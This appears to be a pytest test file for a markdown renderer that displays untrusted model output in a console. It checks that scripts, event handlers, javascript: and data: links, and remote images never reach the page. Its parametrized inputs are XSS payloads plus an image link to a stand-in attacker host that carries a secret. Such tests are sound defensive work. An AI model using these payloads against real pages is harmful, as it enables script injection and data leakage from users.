"""Model output is untrusted: what of it may reach the page."""

from html.parser import HTMLParser

import pytest

from console.markdown import MAX_CHARACTERS, TAGS, render


class Seen(HTMLParser):
    """What a browser would make of it."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _value in attrs)


def test_plain_markdown_is_rendered() -> None:
    html = render("**bold** `code`\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<strong>bold</strong> <code>code</code>" in html
    assert "<li>two</li>" in html
    assert "<td>2</td>" in html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[a](javascript:alert(1))",
        "![x](https://evil.example/x.png?secret=1)",
        "[a](data:text/html;base64,PHNjcmlwdD4=)",
        '```html"><script>alert(1)</script>\ncode\n```',
        "<svg/onload=alert(1)>",
        '[a](https://e.example "onmouseover=alert(1)")',
        "<https://evil.example/?q=1>",
        "[![x](https://evil.example/a.png)](https://evil.example)",
    ],
)
def test_nothing_that_runs_loads_or_links_gets_through(text: str) -> None:
    seen = Seen()
    seen.feed(render(text))
    assert seen.tags <= TAGS
    assert seen.attributes <= {"start", "tabindex"}


def test_a_link_shows_its_address_as_text() -> None:
    assert render("[docs](https://a.example/x?a=1&b=2)") == (
        "<p>docs <code>https://a.example/x?a=1&amp;b=2</code></p>\n"
    )


def test_an_image_becomes_words() -> None:
    assert render("![a *cat*](https://a.example/c.png)") == "<p>[image not loaded: a cat]</p>\n"


def test_code_is_kept_as_written_and_scrolls_by_keyboard() -> None:
    assert render("```python\nif a < b: pass\n```") == ('<pre tabindex="0"><code>if a &lt; b: pass\n</code></pre>')


def test_a_heading_does_not_break_the_outline_of_the_page() -> None:
    assert render("# Title") == "<p><strong>Title</strong></p>"


def test_an_answer_too_long_to_parse_is_shown_as_text() -> None:
    assert render("<b>" + "a" * MAX_CHARACTERS).startswith('<pre tabindex="0">&lt;b&gt;aaa')
